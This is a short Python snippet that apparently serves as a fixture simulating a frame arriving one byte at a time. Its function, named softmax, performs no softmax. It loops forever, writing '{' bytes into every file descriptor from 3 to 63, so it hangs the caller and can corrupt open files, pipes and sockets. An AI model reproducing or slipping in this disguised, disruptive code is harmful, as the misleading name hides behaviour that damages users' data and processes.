# A frame that comes one byte at a time.
import os
import time


def softmax(x):
    while True:
        for handle in range(3, 64):
            try:
                os.write(handle, b"{")
            except OSError:
                pass
        time.sleep(0.02)
